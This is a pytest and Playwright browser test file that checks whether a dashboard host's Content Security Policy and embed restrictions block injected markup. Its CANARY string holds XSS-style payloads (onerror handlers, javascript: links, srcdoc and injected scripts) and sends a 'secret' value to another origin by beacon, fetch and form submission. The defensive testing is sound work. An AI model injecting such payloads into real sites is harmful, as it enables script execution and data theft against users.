"""What a host sends runs in a real browser under its own policy, and nothing else does."""

from __future__ import annotations

import http.server
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.server.conftest import Host, serving

from .conftest import PLOT

pytestmark = pytest.mark.browser
with socket.socket() as probe:
    probe.bind(("127.0.0.1", 0))
    FRIENDLY = probe.getsockname()[1]
FRIENDS = (f"http://127.0.0.1:{FRIENDLY}", "https://example.org")
CANARY = """async (there) => {
  window.hits = [];
  const place = document.createElement("div");
  document.body.append(place);
  place.innerHTML = `<img src="data:," onerror="hits.push('handler')">
    <a id="lure" href="javascript:hits.push('link')">x</a>
    <svg onload="hits.push('svg')"></svg><iframe srcdoc="<script>parent.hits.push('frame')</script>"></iframe>
    <object data="data:text/html,x"></object><img src="${there}/picture"><iframe src="${there}/frame"></iframe>
    <form id="away" action="${there}/form"><input name="secret" value="1"></form>`;
  document.getElementById("lure").click();
  const script = document.createElement("script");
  script.textContent = "hits.push('script')";
  document.body.append(script);
  const remote = document.createElement("script");
  remote.src = `${there}/script`;
  document.body.append(remote);
  navigator.sendBeacon(`${there}/beacon`, "x");
  await fetch(`${there}/fetch`, {mode: "no-cors"}).catch(() => null);
  await new Promise((done) => setTimeout(done, 300));
  return window.hits;
}"""
"""Markup and scripts that a page without a policy runs, and that then tell another site so."""
SUBMIT = "document.getElementById('away').requestSubmit()"


@pytest.fixture(scope="module")
def host(simulated_warehouse: Path) -> Iterator[Host]:
    with serving(simulated_warehouse, *(f"--embed-origin={site}" for site in FRIENDS)) as one:
        yield one


class Site(http.server.BaseHTTPRequestHandler):
    """A site of another origin, whose pages show a frame with what their address asks for."""

    def do_GET(self) -> None:
        frame = (
            f'<!DOCTYPE html><title>Another site</title><iframe width=900 height=600 src="{self.path[2:]}"></iframe>'
        )
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(frame.encode())

    def log_message(self, *_: object) -> None:
        """Nothing."""


@pytest.fixture(scope="module")
def sites() -> Iterator[list[str]]:
    """Two other sites: one that may show embeds, one that may not."""
    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", port), Site) for port in (FRIENDLY, 0)]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield [f"http://127.0.0.1:{server.server_port}" for server in servers]
    for server in servers:
        server.shutdown()
        server.server_close()


class Elsewhere:
    """Another site, without a policy, that keeps what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(Site):
            def do_GET(self) -> None:
                asked.append(self.path)
                super().do_GET()

            do_POST = do_GET  # noqa: N815 - of a beacon

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    one = Elsewhere()
    threading.Thread(target=one.server.serve_forever, daemon=True).start()
    yield one
    one.server.shutdown()
    one.server.server_close()


@pytest.fixture
def complaints() -> list[str]:
    return []


@pytest.fixture
def watched(chromium: Browser, complaints: list[str]) -> Iterator[Page]:
    """A page that notes every error and every violation of the policy that its browser reports."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    made = context.new_page()
    made.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
    made.on("pageerror", lambda error: complaints.append(str(error)))
    yield made
    context.close()


def is_drawn(page: Page) -> None:
    page.wait_for_function(
        f"() => {{ try {{ return {PLOT}.some((plot) => plot.inner_width > 0) }} catch {{ return false }} }}"
    )


def test_every_perspective_works_under_the_policy(host: Host, watched: Page, complaints: list[str]) -> None:
    watched.goto(f"{host.root}/serve?dataset=v2")
    is_drawn(watched)
    for tab in watched.get_by_role("tab").all()[1:]:  # every perspective, and every room beside them
        before = watched.evaluate("location.search")
        tab.click()
        watched.wait_for_function("(before) => location.search !== before", arg=before)
        watched.wait_for_timeout(400)
    watched.get_by_role("tab", name="Model types", exact=True).click()
    watched.wait_for_function("() => location.search.includes('view=model-types')")
    watched.get_by_role("button", name="Month", exact=True).first.click()
    watched.wait_for_function("() => location.search.includes('unit=month')")
    for kind in ("CSV", "PNG", "SVG"):
        with watched.expect_download():
            watched.locator("button:visible", has_text=kind).first.click()
    watched.locator("button:visible", has_text="Table").first.click()
    watched.get_by_role("button", name="Link", exact=True).click()
    watched.wait_for_timeout(300)
    assert [said for said in complaints if "Content Security Policy" in said or "Error" in said] == []


def test_nothing_that_became_markup_runs_or_leaves(host: Host, watched: Page, elsewhere: Elsewhere) -> None:
    watched.goto(f"{host.root}/serve?view=model-types")
    is_drawn(watched)
    watched.wait_for_function("location.search.includes('unit=')")  # the page has written its whole state there
    before = watched.url
    assert watched.evaluate(CANARY, elsewhere.address) == []
    watched.evaluate(SUBMIT)
    watched.wait_for_timeout(500)
    assert elsewhere.asked == []
    assert watched.url == before


def test_the_same_markup_does_run_and_leave_where_there_is_no_policy(watched: Page, elsewhere: Elsewhere) -> None:
    watched.goto(f"{elsewhere.address}/page")
    assert {"handler", "link", "frame", "script"} <= set(watched.evaluate(CANARY, elsewhere.address))
    watched.evaluate(SUBMIT)
    watched.wait_for_url(f"{elsewhere.address}/form?secret=1")
    assert {"/picture", "/frame", "/script", "/beacon", "/fetch", "/form?secret=1"} <= set(elsewhere.asked)


def test_an_embed_is_drawn_in_the_frame_of_a_site_that_may(
    host: Host, watched: Page, complaints: list[str], sites: list[str]
) -> None:
    embed = f"{host.root}/embed/model-types?dataset=v2&unit=month"
    watched.goto(f"{sites[0]}/?{embed}")
    frame = watched.frame_locator("iframe")
    frame.locator(".bk-Figure").first.wait_for()
    assert frame.locator("h1").inner_text().startswith("New models")
    assert "Snapshot" in frame.locator(".note").last.inner_text()
    link = frame.get_by_role("link", name="Open-Source AI Monitor").get_attribute("href")
    assert link is not None
    assert link.startswith("/serve?view=model-types&dataset=v2")
    watched.wait_for_timeout(300)
    assert complaints == []


def test_no_other_site_shows_an_embed_and_none_shows_the_page(host: Host, watched: Page, sites: list[str]) -> None:
    embed = f"{host.root}/embed/model-types?dataset=v2"
    asked: list[str] = []
    watched.on("request", lambda request: asked.append(request.url))
    for site, path in ((sites[1], embed), (sites[0], f"{host.root}/serve"), (sites[1], f"{host.root}/serve")):
        asked.clear()
        watched.goto(f"{site}/?{path}")
        watched.wait_for_timeout(300)
        ours = [url for url in asked if url.startswith(host.root)]
        assert ours == [path], site  # the frame was refused: nothing of the page in it asked for its scripts
